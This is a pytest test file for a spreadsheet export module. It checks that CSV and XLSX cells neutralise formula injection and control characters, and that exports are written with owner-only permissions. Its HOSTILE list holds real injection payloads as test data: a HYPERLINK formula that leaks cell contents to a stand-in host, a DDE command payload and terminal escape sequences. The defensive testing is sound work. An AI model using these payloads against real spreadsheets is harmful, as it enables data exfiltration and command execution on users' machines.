"""The one CSV/XLSX writer (issue 16): formulas never come out as formulas, and no character fails a workbook."""

from __future__ import annotations

import csv
import io
import os
from pathlib import Path

import openpyxl
import pytest

from tracker.reports import sheets

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "title\x1b]0;pwned\x07 with ESC and BEL",
    "nul\x00 and vt\x0b and c1\x9b",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_cell_is_text_that_no_spreadsheet_runs(value: str) -> None:
    safe = sheets.cell(value)
    assert isinstance(safe, str)
    assert safe[:1] not in ("=", "+", "-", "@", "\t", "\r")
    assert not any(ord(ch) < 0x20 or 0x7f <= ord(ch) <= 0x9f for ch in safe)


def test_numbers_and_plain_text_pass_unchanged() -> None:
    assert [sheets.cell(v) for v in (3, 2.5, True, None, "京密〔2026〕1号", "a=b")] == \
        [3, 2.5, True, None, "京密〔2026〕1号", "a=b"]


def test_csv_keeps_every_row_and_neutralises_each_cell() -> None:
    text = sheets.to_csv(["code", "title"], [[f"BJ-{i}", v] for i, v in enumerate(HOSTILE)])
    rows = list(csv.reader(io.StringIO(text)))
    assert len(rows) == 1 + len(HOSTILE)
    assert rows[1][1] == "'" + HOSTILE[0] and rows[2][1] == "'=cmd|' /C calc'!A0"
    assert rows[6][1] == "'\\x09=1+1"  # the tab is both neutralised and shown
    assert "\x1b" not in text and "\x00" not in text


def test_xlsx_never_fails_on_a_character_and_holds_no_formula(tmp_path: Path) -> None:
    path = sheets.write_xlsx(tmp_path / "r.xlsx", [
        sheets.Sheet("carriers", [[i, v] for i, v in enumerate(HOSTILE)], header=["n", "title"]),
        sheets.Sheet("notes\x1b", [["free text", HOSTILE[7]]]),
    ])
    wb = openpyxl.load_workbook(path)
    ws = wb["carriers"]
    values = [ws.cell(row=r, column=2).value for r in range(2, 2 + len(HOSTILE))]
    assert values == [sheets.cell(v) for v in HOSTILE]
    assert all(ws.cell(row=r, column=2).data_type == "s" for r in range(1, 2 + len(HOSTILE)))
    assert ws.cell(row=1, column=1).font.b and ws.freeze_panes == "A2"
    assert wb.sheetnames == ["carriers", "notes_"]


def test_files_are_private_whatever_the_umask(tmp_path: Path) -> None:
    """An export is a list of classified holdings: other local users may not read it, as they may not read the
    register; an older world-readable file of the same name is tightened when written over."""
    (tmp_path / "old.csv").write_text("x")
    (tmp_path / "old.csv").chmod(0o644)
    old = os.umask(0)
    try:
        written = [sheets.write_csv(tmp_path / "r.csv", ["a"], [["=1"]]),
                   sheets.write_csv(tmp_path / "old.csv", ["a"], [["b"]]),
                   sheets.write_xlsx(tmp_path / "r.xlsx", [sheets.Sheet("s", [["=1"]], ["a"])])]
    finally:
        os.umask(old)
    assert [p.stat().st_mode & 0o777 for p in written] == [0o600] * 3
    assert (tmp_path / "old.csv").read_text(encoding="utf-8-sig").splitlines() == ["a", "b"]
    assert openpyxl.load_workbook(tmp_path / "r.xlsx")["s"]["A2"].value == "'=1"
